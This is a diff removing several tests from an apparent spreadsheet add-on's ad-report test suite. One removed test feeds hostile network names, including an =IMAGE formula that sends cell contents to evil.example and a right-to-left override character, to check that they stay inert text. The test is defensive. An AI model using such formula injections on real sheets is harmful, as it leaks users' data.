@@ -59,25 +59,6 @@ it('one number of days that may change, or of all apps, is requested by day, bec
   expect(dimensionsOf({})).toEqual(['appId']);
 });
 
-it('an id that is in no list is shown with its name', () => {
-  const question = ['', 'revenue', '2026-09-08', DAY, 'network,networkName'];
-  const rows = rowsWith('unknown-network', {}, 'ADREPORT_FULL', ...question);
-  expect(rows.map((row) => row.slice(0, 2))).toContainEqual(['9999', 'Newcomer Ads']);
-});
-
-it('hostile names stay texts, and change no number', () => {
-  const question = ['3.10', 'revenue', DAY, '', 'network,networkName'];
-  const before = sheet.table('ADREPORT_FULL', ...question).slice(1);
-  for (const text of ['=IMAGE("https://evil.example/?"&A1)', '\n=1+1', '\u202Eevil']) {
-    sheet.forget();
-    sheet.service.clearFaults();
-    const rows = rowsWith('hostile-names', { text }, 'ADREPORT_FULL', ...question);
-    expect(rows.map((row) => row.with(1, ''))).toEqual(before.map((row) => row.with(1, '')));
-    for (const [at, [, name]] of rows.entries())
-      expect(String(name).trim()).toBe(`${text.trim()}${before[at]![1]}`);
-  }
-});
-
 it('ids stay the same, character by character, in every report', () => {
   const ids = ['00123456', '12E45678', '3.10', '9007199254740993'];
   const column = (at: number, name: FormulaName, ...args: readonly unknown[]) =>
@@ -110,15 +91,6 @@ it.each(['captured', 'specified'] as const)(
     );
   },
 );
-
-it('a failure is shown by the next cell in the same words, without another request', () => {
-  sheet.service.arm('server-error', FOR_EVER);
-  const first = sheet.sentence('ADREPORT_VALUE', ...VALUE);
-  expect(first).toMatch(/internal error.+Refresh formulas in a minute\.$/);
-  const { length } = sheet.service.requests;
-  expect(sheet.sentence('ADREPORT_VALUE', ...VALUE)).toBe(first);
-  expect([sheet.service.requests.length, sheet.log.entries]).toEqual([length, []]);
-});
 
 it('a mistake of the add-on is logged, and its place is shown', () => {
   sheet.access = () => {
